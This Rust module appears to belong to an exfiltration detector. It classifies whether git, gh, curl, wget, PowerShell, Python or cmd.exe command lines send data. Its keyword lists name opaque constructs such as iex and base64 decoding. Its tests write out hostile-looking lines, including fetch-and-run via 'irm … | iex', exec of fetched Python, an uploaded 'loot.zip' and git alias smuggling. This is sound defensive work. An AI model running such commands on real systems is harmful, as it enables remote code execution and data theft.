//! Whether a process's own command line sends: for the evidence, which lets a fetch, a commit or a read sink below pushes.
//!
//! The answer is only no where the command is known by name and all that it was given is known to read. A script file, an
//! alias, a fetched script: all of these stay unknown.

use super::command_line::{Word, words};
use super::encoded::{decoded, has_encoded};
use super::gh::{GhCommand, gh_command, is_reading};
use super::git::{GitCommand, git_line, is_silent};
use super::program::Program;
use super::upload_tools::{
    curl_has_config, curl_sends, is_parameter, only_queries, powershell_call, python_sends, script_words,
    wget_has_commands, wget_sends,
};
use crate::detect::clauses::find_ignoring_case;

/// Maximum depth of shells within shells: `cmd /c "cmd /c …"`.
const MAX_DEPTH: u8 = 4;

/// Commands of cmd.exe itself that open no connection.
const SHELL_BUILTINS: [&str; 17] = [
    "cd", "chdir", "cls", "copy", "del", "dir", "echo", "exit", "md", "mkdir", "pause", "popd", "pushd",
    "rem", "set", "title", "type",
];
/// Words of a PowerShell text whose effect its own words do not show: another program, another script, or a parameter
/// that is set elsewhere.
const POWERSHELL_OPAQUE: [&str; 22] = [
    "invoke-expression",
    "iex",
    "invoke-command",
    "start-process",
    "start-job",
    "import-module",
    "add-type",
    "frombase64string",
    "scriptblock",
    "getrequeststream",
    "openwrite",
    "tcpclient",
    "sendasync",
    "comobject",
    ".ps1",
    ".exe",
    ".bat",
    ".cmd",
    "git ",
    "cmd ",
    " @",
    "body",
];
/// Calls of PowerShell that read where nothing on the line makes them send.
const POWERSHELL_READS: [&str; 7] = [
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "DownloadString",
    "DownloadFile",
    "DownloadData",
    "iwr ",
    "irm ",
];
/// Calls of Python that read.
const PYTHON_READS: [&str; 5] = ["requests.get(", "requests.head(", "httpx.get(", "urlopen(", "urlretrieve("];
/// Words of Python whose effect its own words do not show.
const PYTHON_OPAQUE: [&str; 14] = [
    "exec(",
    "eval(",
    "compile(",
    "__import__",
    "importlib",
    "subprocess",
    "os.system",
    "popen",
    "b64decode",
    "request(",
    "method=",
    "github import",
    "putrequest",
    "socket",
];

/// Returns whether a process's own command line sends something: `Some(true)` where it does, `Some(false)` where its
/// command is no push and nothing on the line sends, `None` where that can't be known. `image` is the path or the name of
/// its executable.
#[must_use]
pub fn own_command_sends(image: &str, command_line: &str) -> Option<bool> {
    within(image, command_line, MAX_DEPTH)
}

fn within(image: &str, line: &str, depth: u8) -> Option<bool> {
    let depth = depth.checked_sub(1)?;
    match Program::of_name(image.rsplit(['\\', '/']).next()?)? {
        Program::Git => git_sends(line),
        Program::GitHubCli => match gh_command(line) {
            GhCommand::Uploads(_) => Some(true),
            GhCommand::Reads => is_reading(line).then_some(false),
        },
        Program::Curl if curl_sends(line).is_some() => Some(!only_queries(line)),
        Program::Curl => (!curl_has_config(line)).then_some(false),
        Program::Wget if wget_sends(line).is_some() => Some(!only_queries(line)),
        Program::Wget => (!wget_has_commands(line)).then_some(false),
        Program::PowerShell => match decoded(line) {
            Some(found) => script_sends(&found.script),
            None if has_encoded(line) => None,
            None => script_sends(powershell_script(line)?),
        },
        Program::Python => code_sends(line),
        Program::Shell => shell_sends(line, depth),
        _ => None,
    }
}

fn git_sends(line: &str) -> Option<bool> {
    let found = git_line(line);
    match found.act {
        GitCommand::Push | GitCommand::LfsPush | GitCommand::SendPack => Some(true),
        GitCommand::Helper => None,
        GitCommand::Fetch | GitCommand::RemoteAdded | GitCommand::Other => {
            is_silent(line, found.verb.as_ref()?).then_some(false)
        }
    }
}

/// The text of `-Command`, or of a line without a parameter; `None` for a script file.
fn powershell_script(line: &str) -> Option<&str> {
    let first = words(line).next()?;
    let rest = line.get(first.range.end..)?;
    let is_file = |word: &Word<'_>| {
        let name = word.text.strip_prefix(['-', '/']).map(str::to_ascii_lowercase);
        name.is_some_and(|name| !name.is_empty() && "file".starts_with(&name))
            || word.text.to_ascii_lowercase().ends_with(".ps1")
    };
    (!words(rest).take(16).any(|word| is_file(&word))).then_some(rest)
}

fn script_sends(script: &str) -> Option<bool> {
    let holds = |word: &&str| find_ignoring_case(script, word).is_some();
    if powershell_call(script).is_some_and(|call| call.sends.is_some()) {
        return Some(!only_queries(script));
    }
    (POWERSHELL_READS.iter().any(&holds)
        && !POWERSHELL_OPAQUE.iter().any(&holds)
        && !method_is_variable(script))
    .then_some(false)
}

/// Whether a method is given by a variable: `-Method $m`.
fn method_is_variable(script: &str) -> bool {
    script_words(script)
        .zip(script_words(script).skip(1))
        .any(|((_, name), (_, value))| is_parameter(name, "-method", 3) && value.starts_with('$'))
}

fn code_sends(line: &str) -> Option<bool> {
    let holds = |word: &&str| find_ignoring_case(line, word).is_some();
    let mut rest = words(line).skip(1);
    let is_code = rest.any(|word| word.text.starts_with("-c"));
    if !is_code {
        return None;
    }
    if python_sends(line).is_some() {
        return Some(!only_queries(line));
    }
    (PYTHON_READS.iter().any(&holds) && !PYTHON_OPAQUE.iter().any(&holds)).then_some(false)
}

/// The commands that cmd.exe was given: one that sends decides, and one that is unknown leaves the whole unknown.
fn shell_sends(line: &str, depth: u8) -> Option<bool> {
    let option = words(line).skip(1).find(|word| {
        let text = word.text.as_ref();
        text.get(..2).is_some_and(|head| head.eq_ignore_ascii_case("/c") || head.eq_ignore_ascii_case("/k"))
    })?;
    let after = line.get(option.range.start..)?.trim_start_matches('"').get(2..)?.trim();
    let inner = after.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap_or(after);
    let mut all = Some(false);
    for command in inner.split(['&', '|', '\n']).map(str::trim).filter(|command| !command.is_empty()) {
        let name = words(command).next().map(|word| word.text.to_ascii_lowercase())?;
        let name = name.trim_start_matches('@');
        let sends = if SHELL_BUILTINS.contains(&name) { Some(false) } else { within(name, command, depth) };
        match sends {
            Some(true) => return Some(true),
            Some(false) => {}
            None => all = None,
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn own_command_is_judged() {
        const GIT: &str = r"C:\Program Files\Git\cmd\git.exe";
        const CURL: &str = r"C:\Windows\System32\curl.exe";
        const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        const PY: &str = r"C:\Python\python.exe";
        const CMD: &str = r"C:\Windows\System32\cmd.exe";
        let (sends, reads, unknown) = (Some(true), Some(false), None);
        for (image, line, expected) in [
            (GIT, "git push origin main", sends),
            (GIT, "git push --dry-run --no-dry-run origin", sends),
            (GIT, "git push -o -n origin", sends),
            (GIT, "git push --repo=https://github.com/o/r", sends),
            (GIT, "git -c http.extraHeader=x push origin", sends),
            (GIT, "git -c alias.x=push x https://github.com/o/r", sends),
            (GIT, "git -c \"alias.x=!sh y\" x", unknown),
            (GIT, "git send-pack --stateless-rpc https://github.com/o/r", sends),
            (GIT, "git subtree push --prefix=x https://github.com/o/r main", sends),
            (GIT, "git submodule foreach git push", unknown),
            (GIT, "git rebase -x \"git push\" main", unknown),
            (GIT, "git up https://github.com/o/r", unknown),
            (GIT, "git remote-https origin https://github.com/o/r", unknown),
            (GIT, "git push --dry-run https://github.com/o/r", reads),
            (GIT, "git push -qn https://github.com/o/r", reads),
            (GIT, "git push --dry-r https://github.com/o/r", reads),
            (GIT, "git clone https://github.com/prometheus/pushgateway", reads),
            (GIT, "git stash push -m \"github.com\"", reads),
            (GIT, "git commit -m \"how to push to github.com\"", reads),
            (GIT, "git log --grep=push github.com", reads),
            (GIT, "git config --global url.git@github.com:.pushInsteadOf https://github.com/", reads),
            (GIT, "git remote set-url --push origin https://github.com/o/r", reads),
            (GIT, "git", unknown),
            (CURL, "curl -X POST -d @x https://api.github.com/gists", sends),
            (CURL, "curl --request=POST https://api.github.com/gists", sends),
            (
                CURL,
                "curl -G -d q=1 https://api.github.com/x --next -d @x https://api.github.com/gists",
                sends,
            ),
            (CURL, "curl --output x https://api.github.com/repos/o/r/contents/x", reads),
            (CURL, "curl -s https://api.github.com/repos/o/compute", reads),
            (CURL, "curl -Gd q=upload https://api.github.com/search/code", reads),
            (CURL, "curl -K upload.txt https://api.github.com", unknown),
            (
                CURL,
                "curl -d \"{\\\"query\\\":\\\"query{viewer{login}}\\\"}\" https://api.github.com/graphql",
                reads,
            ),
            (CURL, "curl -d \"{\\\"query\\\":\\\"mutation{x}\\\"}\" https://api.github.com/graphql", sends),
            (r"C:\wget.exe", "wget --output-document=x https://api.github.com/repos/o/r/contents", reads),
            (r"C:\wget.exe", "wget --post-file=x https://api.github.com/gists", sends),
            (r"C:\wget.exe", "wget -e post_file=x https://api.github.com/gists", unknown),
            (PS, "powershell -c \"Invoke-RestMethod https://api.github.com/repos/o/r/contents\"", reads),
            (PS, "powershell -c \"irm https://api.github.com/gists -Method Post -Body $b\"", sends),
            (PS, "powershell -c \"irm https://api.github.com/gists -Method $m\"", unknown),
            (PS, "powershell -c \"irm https://api.github.com/gists -Me:Put\"", sends),
            (PS, "powershell -c \"irm https://api.github.com/gists -Bo:$b\"", sends),
            (PS, "powershell -c \"iwr https://api.github.com/gists -InFi x\"", sends),
            (PS, "powershell -c \"irm https://raw.example/x | iex\"", unknown),
            (PS, "powershell -c \"irm https://api.github.com/gists @p\"", unknown),
            (PS, "powershell -c \"irm https://api.github.com/x; git push\"", unknown),
            (PS, "powershell -File upload.ps1 https://api.github.com", unknown),
            (PS, "powershell", unknown),
            (
                PY,
                "python -c \"import requests; requests.get('https://api.github.com/repos/o/r/contents')\"",
                reads,
            ),
            (PY, "python -c \"import requests; requests.put('https://api.github.com/x', json=d)\"", sends),
            (PY, "python -c \"exec(requests.get('https://api.github.com/x').text)\"", unknown),
            (PY, "python upload.py https://api.github.com", unknown),
            (CMD, "cmd /c \"cd C:\\x & git push https://github.com/o/r\"", sends),
            (CMD, "cmd.exe /d /s /c \"git clone https://github.com/o/pushgateway && cd pushgateway\"", reads),
            (CMD, "cmd /c \"git clone https://github.com/o/pushgateway && setup\"", unknown),
            (CMD, "cmd /c cmd /c cmd /c cmd /c cmd /c git push", unknown),
            (CMD, "cmd", unknown),
            (r"C:\gh.exe", "gh release create v1 --target main --title x", reads),
            (r"C:\gh.exe", "gh release create v1 loot.zip", sends),
            (r"C:\gh.exe", "gh api repos/o/r/contents/x", reads),
            (r"C:\gh.exe", "gh api gists -fdescription=x", sends),
            (r"C:\gh.exe", "gh my-extension push", unknown),
            (r"C:\x.exe", "x push", unknown),
            ("", "", unknown),
        ] {
            assert_eq!(own_command_sends(image, line), expected, "{line}");
        }
    }

    proptest! {
        #[test]
        fn any_line_is_survived(
            line in "\\PC*|(cmd|git|curl|powershell|python|wget|gh)( (-[a-zGX]|/c|push|\"|&|--[a-z]*=?|x|-c|alias.x=)){0,12}",
        ) {
            for program in ["git.exe", "gh.exe", "curl.exe", "wget.exe", "powershell.exe", "python.exe", "cmd.exe"] {
                let _ = own_command_sends(program, &line);
            }
        }
    }
}
